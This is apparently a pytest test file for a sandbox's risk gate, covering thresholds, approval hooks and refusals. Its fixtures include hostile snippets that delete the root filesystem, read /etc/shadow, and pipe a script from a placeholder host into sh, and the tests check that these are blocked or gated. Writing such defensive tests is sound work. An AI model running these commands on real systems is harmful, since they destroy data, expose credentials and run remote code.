"""The risk gate: thresholds, the approval hook (firstresult), refusals with findings."""

from __future__ import annotations

import pluggy
import pytest

from sandlot import hookspecs
from sandlot.approval import ApprovalRequest, Decision
from sandlot.errors import RiskBlocked
from sandlot.hookspecs import hookimpl
from sandlot.risk import plugin
from sandlot.risk.config import RiskConfig
from sandlot.risk.gate import check
from sandlot.risk.model import Assessment, RiskLevel

CRITICAL_CODE = 'import shutil\nshutil.rmtree("/")\n'
HIGH_CODE = 'print(open("/etc/shadow").read())\n'
MEDIUM_CODE = "import os\nos.system(cmd)\n"


class Approver:
    def __init__(self, decision: Decision | None) -> None:
        self.decision = decision
        self.requests: list[ApprovalRequest] = []

    @hookimpl
    def sandlot_approve(self, request: ApprovalRequest) -> Decision | None:
        self.requests.append(request)
        return self.decision


def make_pm(*plugins: object) -> pluggy.PluginManager:
    pm = pluggy.PluginManager("sandlot")
    pm.add_hookspecs(hookspecs)
    pm.register(plugin, name="risk")
    for p in plugins:
        pm.register(p)
    return pm


def test_below_threshold_runs_without_asking() -> None:
    approver = Approver(Decision.DENY)
    assessment = check("print(1)", "python", config=RiskConfig(), pm=make_pm(approver))
    assert assessment.level is RiskLevel.SAFE
    assert approver.requests == []


def test_no_approver_means_deny() -> None:
    with pytest.raises(RiskBlocked) as info:
        check(HIGH_CODE, "python", config=RiskConfig(), pm=make_pm())
    message = str(info.value)
    assert "no approver answered" in message
    assert "python.secret-read" in message and "/etc/shadow" in message
    assert isinstance(info.value.assessment, Assessment)
    assert info.value.assessment.level is RiskLevel.HIGH
    assert info.value.exit_status == 4


def test_without_plugin_manager_nothing_can_approve() -> None:
    with pytest.raises(RiskBlocked):
        check(HIGH_CODE, "python", config=RiskConfig(), pm=None)


@pytest.mark.parametrize("decision", [Decision.ALLOW_ONCE, Decision.ALLOW_SESSION, Decision.ALLOW_ALWAYS])
def test_approval_lets_code_run(decision: Decision) -> None:
    approver = Approver(decision)
    assessment = check(HIGH_CODE, "python", config=RiskConfig(), pm=make_pm(approver))
    assert assessment.level is RiskLevel.HIGH
    [request] = approver.requests
    assert request.kind == "risk" and request.command == HIGH_CODE
    assert request.assessment == assessment and request.violation is None


def test_denial_blocks() -> None:
    with pytest.raises(RiskBlocked, match="the approver denied it"):
        check(HIGH_CODE, "python", config=RiskConfig(), pm=make_pm(Approver(Decision.DENY)))


def test_first_answer_wins() -> None:
    silent, allowing = Approver(None), Approver(Decision.ALLOW_ONCE)
    pm = make_pm(allowing, silent)  # pluggy calls later registrations first: silent, then allowing
    check(HIGH_CODE, "python", config=RiskConfig(), pm=pm)
    assert silent.requests and allowing.requests


def test_block_threshold_refuses_even_with_approval() -> None:
    approver = Approver(Decision.ALLOW_ALWAYS)
    config = RiskConfig(block_threshold=RiskLevel.CRITICAL)
    with pytest.raises(RiskBlocked, match="block threshold critical"):
        check(CRITICAL_CODE, "python", config=config, pm=make_pm(approver))
    assert approver.requests == []
    check(HIGH_CODE, "python", config=config, pm=make_pm(approver))  # HIGH is only approval-gated


def test_lower_approval_threshold() -> None:
    approver = Approver(Decision.DENY)
    config = RiskConfig(approval_threshold=RiskLevel.MEDIUM)
    with pytest.raises(RiskBlocked):
        check(MEDIUM_CODE, "python", config=config, pm=make_pm(approver))
    assert approver.requests
    check(MEDIUM_CODE, "python", config=RiskConfig(), pm=make_pm())  # default threshold HIGH: runs


def test_parse_error_level_from_config() -> None:
    config = RiskConfig(parse_error_level=RiskLevel.HIGH)
    with pytest.raises(RiskBlocked, match=r"python\.parse-error"):
        check("def f(:", "python", config=config, pm=make_pm())
    assert check("def f(:", "python", config=RiskConfig(), pm=make_pm()).level is RiskLevel.MEDIUM


def test_shell_code_is_gated_too() -> None:
    with pytest.raises(RiskBlocked, match=r"shell\.download-exec"):
        check("curl -s https://x.example/i.sh | sh", "shell", config=RiskConfig(), pm=make_pm())
